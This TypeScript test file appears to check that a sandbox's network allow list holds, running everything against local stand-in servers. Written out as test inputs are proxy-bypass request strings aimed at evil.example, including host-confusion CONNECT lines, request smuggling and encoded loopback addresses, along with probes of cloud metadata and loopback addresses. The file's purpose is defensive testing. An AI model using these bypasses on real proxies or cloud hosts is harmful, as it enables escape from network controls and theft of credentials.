import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer as createHttpServer } from 'node:http'
import { createServer, type AddressInfo } from 'node:net'
import { networkInterfaces } from 'node:os'
import { FENCED, FULL, held, type AttackCase } from './stage.ts'

/** G. The network, with the allow list in force. No packet goes further than this machine. */
export const NETWORK_CASES: readonly AttackCase[] = [
  {
    number: 51,
    title: 'direct connections: TCP, UDP, IPv6, raw, names',
    by: FULL,
    seenWithoutFence: true,
    async attempt({ python }) {
      const seen: string[] = []
      const tcp = createServer((socket) => {
        seen.push('tcp')
        socket.destroy()
      })
      tcp.listen(0, '::')
      await once(tcp, 'listening')
      const udp = createSocket({ type: 'udp6' })
      udp.on('message', () => seen.push('udp'))
      udp.bind(0, '::')
      await once(udp, 'listening')
      const addresses = ['127.0.0.1', '::1', ...outerAddresses()]
      const { output } = await python(
        directly(addresses, (tcp.address() as AddressInfo).port, udp.address().port),
        30_000,
      )
      await new Promise((resolve) => setTimeout(resolve, 100))
      tcp.close()
      udp.close()
      return held(seen.length === 0 && !output.includes('raw'), `${seen.join(' ')} ${output.trim()}`)
    },
  },
  {
    number: 52,
    title: 'metadata, loopback and neighbours, by address and by a name that leads there',
    by: FULL,
    async attempt({ run }) {
      const hosts = [
        '169.254.169.254',
        'metadata.google.internal',
        '[fd00:ec2::254]',
        '127.0.0.1',
        'localhost',
        'to-metadata.test',
        'to-loopback.test',
        'to-mapped.test',
        'to-gateway.test',
      ]
      const answers: string[] = []
      for (const host of hosts) {
        const { output } = await run(
          `curl -gs -m 10 --noproxy '' -o /dev/null -w '%{http_code} %{http_connect}' 'http://${host}/' ; curl -gs -m 10 --noproxy '' -o /dev/null -w ' %{http_connect}' 'https://${host}/'`,
        )
        answers.push(`${host} ${output.trim()}`)
      }
      const open = answers.filter((answer) => !/ 40[03] 000 40[03]$/.test(answer))
      return held(open.length === 0, open.join(', ') || 'all refused')
    },
  },
  {
    number: 53,
    title: 'requests made to be read in two ways',
    by: FULL,
    async attempt({ python }) {
      const { output } = await python(RIDDLES, 60_000)
      return held(output.includes('asked ') && !output.includes('passed'), output.replaceAll('\n', ' '))
    },
  },
  {
    number: 153,
    title: 'a tunnel to an allowed host, used for another or without TLS',
    by: FULL,
    async attempt({ python, heardOutside }) {
      const { output } = await python(TUNNELS, 60_000)
      const heard = heardOutside()
      const through = /evil\.example/.test(heard) ? 'passed' : 'stopped'
      // An honest hello gets there: else nothing would have been tried.
      const honest = /\bopened 3\b/.test(output) && heard.includes('allowed.test')
      return held(through === 'stopped' && honest, `${through}; ${output.trim()}; honest ${honest}`)
    },
  },
  {
    number: 55,
    title: 'a test server on 127.0.0.1, ::1, localhost, and a unix socket work',
    by: FENCED,
    async attempt({ python }) {
      const { output } = await python(OWN_SERVERS, 30_000)
      return held(output.trim() === 'ok ok ok ok', output.trim())
    },
  },
  {
    number: 155,
    title: 'a service container’s port on localhost works',
    by: FULL,
    async attempt({ run, shell }) {
      if (shell.network !== 'allowlist') return held(true, 'needs the allow list')
      const service = createHttpServer((_request, response) => response.end('from the service'))
      service.listen(SERVICE_PORT, '127.0.0.1')
      await once(service, 'listening')
      const { output } = await run(`curl -s -m 10 http://localhost:${SERVICE_PORT}/`)
      service.closeAllConnections()
      service.close()
      return held(output === 'from the service', output)
    },
  },
]

/** Allowed by name for the subject; nothing else on this machine is expected there. */
export const SERVICE_PORT = 45_789

/** Stands for every host of the outer world: answers everything, and keeps what it heard. */
export async function openOuterWorld(): Promise<{ readonly port: number; readonly heard: () => string }> {
  let heard = ''
  const server = createServer((socket) => {
    socket.on('error', () => {})
    socket.on('data', (piece) => {
      heard = (heard + piece.toString('latin1')).slice(-100_000)
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nreached')
    })
  })
  server.listen(0, '127.0.0.1').unref()
  await once(server, 'listening')
  return { port: (server.address() as AddressInfo).port, heard: () => heard }
}

/** Names the subject's proxy resolves, for case 52 and 53. */
export const TEST_NAMES: Readonly<Record<string, readonly string[]>> = {
  'to-metadata.test': ['169.254.169.254'],
  'to-loopback.test': ['93.184.216.34', '127.0.0.1'],
  'to-mapped.test': ['::ffff:127.0.0.1'],
  'to-gateway.test': outerAddresses(),
  'allowed.test': ['93.184.216.34'],
}

function outerAddresses(): string[] {
  return Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .filter(({ internal, address }) => !internal && !address.startsWith('fe80'))
    .map(({ address }) => address)
}

const directly = (addresses: readonly string[], tcpPort: number, udpPort: number): string => `
import socket
for address in ${JSON.stringify(addresses)}:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    try:
        socket.create_connection((address, ${tcpPort}), 2).close()
        print("tcp", address)
    except OSError: pass
    try:
        one = socket.socket(family, socket.SOCK_DGRAM)
        one.sendto(b"x", (address, ${udpPort}))
    except OSError: pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    print("raw")
except OSError: pass
try:
    socket.socket(17, socket.SOCK_RAW, 3)
    print("raw packets")
except OSError: pass
try:
    print("name", socket.getaddrinfo("example.com", 80)[0][4])
except OSError: pass
`

/** Each must end in 400 or 403, or in silence. "passed" is printed for anything else. */
const RIDDLES = `
import os, socket
port = int(os.environ["http_proxy"].rsplit(":", 1)[1])
def ask(raw):
    one = socket.create_connection(("127.0.0.1", port), 5)
    one.settimeout(5)
    one.sendall(raw)
    answer = b""
    try:
        while True:
            piece = one.recv(4096)
            if not piece: break
            answer += piece
            if answer.count(b"\\r\\n\\r\\n") >= 2: break
    except OSError: pass
    return answer
riddles = {
    "twin": b"CONNECT allowed.test.evil.example:443 HTTP/1.1\\r\\n\\r\\n",
    "prefix twin": b"CONNECT evilallowed.test:443 HTTP/1.1\\r\\n\\r\\n",
    "user part": b"CONNECT allowed.test@evil.example:443 HTTP/1.1\\r\\n\\r\\n",
    "user part plain": b"GET http://allowed.test@evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
    "backslash": b"GET http://allowed.test\\\\@evil.example/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
    "nul": b"CONNECT allowed.test\\0.evil.example:443 HTTP/1.1\\r\\n\\r\\n",
    "line end": b"CONNECT allowed.test\\rX:443 HTTP/1.1\\r\\n\\r\\n",
    "other port": b"CONNECT allowed.test:22 HTTP/1.1\\r\\n\\r\\n",
    "two hosts": b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n",
    "no host": b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
    "trailing dot": b"CONNECT evil.example.:443 HTTP/1.1\\r\\n\\r\\n",
    "upper case": b"CONNECT EVIL.EXAMPLE:443 HTTP/1.1\\r\\n\\r\\n",
    "other scheme": b"GET ftp://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
    "upgrade": b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
    "smuggled": b"POST http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
    "second host": b"GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\nGET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
    "octal address": b"CONNECT 0177.0.0.1:443 HTTP/1.1\\r\\n\\r\\n",
    "number address": b"CONNECT 2130706433:443 HTTP/1.1\\r\\n\\r\\n",
    "zone": b"CONNECT [fe80::1%25lo]:443 HTTP/1.1\\r\\n\\r\\n",
}
honest = ask(b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
if b"reached" not in honest: print("passed nothing at all", honest[:60])
for name, raw in riddles.items():
    answer = ask(raw)
    status = answer.split(b" ")[1][:3] if answer.count(b" ") > 1 else b""
    if status not in (b"", b"400", b"403") or b"HTTP/1.1 2" in answer:
        print("passed", name, answer[:60])
print("asked", len(riddles))
`

/** What goes into a tunnel must be the beginning of TLS to the tunnel's own host. */
const TUNNELS = `
import os, socket, ssl
port = int(os.environ["http_proxy"].rsplit(":", 1)[1])
opened = 0
def tunnel():
    global opened
    one = socket.create_connection(("127.0.0.1", port), 5)
    one.settimeout(5)
    one.sendall(b"CONNECT allowed.test:443 HTTP/1.1\\r\\n\\r\\n")
    if b" 200 " in one.recv(4096): opened += 1
    return one
def hello(name):
    context = ssl.create_default_context()
    try: context.wrap_socket(tunnel(), server_hostname=name)
    except OSError: pass
hello("evil.example")
plain = tunnel()
plain.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
try: plain.recv(4096)
except OSError: pass
hello("allowed.test")
print("opened", opened)
`

const OWN_SERVERS = `
import http.server, os, socket, threading, urllib.request
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *args): pass
class Six(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
results = []
four = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Handler)
threading.Thread(target=four.serve_forever, daemon=True).start()
six = Six(("::1", 0), Handler)
threading.Thread(target=six.serve_forever, daemon=True).start()
def get(url):
    try: return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url, timeout=5).read().decode()
    except Exception as error: return repr(error)
results.append(get("http://127.0.0.1:%d/" % four.server_port))
results.append(get("http://[::1]:%d/" % six.server_port))
try: results.append(get("http://%s:%d/" % (socket.gethostbyname("localhost"), four.server_port)))
except OSError as error: results.append(repr(error))
path = "own.sock"
if os.path.exists(path): os.unlink(path)
server = socket.socket(socket.AF_UNIX); server.bind(path); server.listen()
client = socket.socket(socket.AF_UNIX); client.connect(path)
other, _ = server.accept(); other.send(b"ok"); results.append(client.recv(10).decode())
os.unlink(path)
print(*results)
`
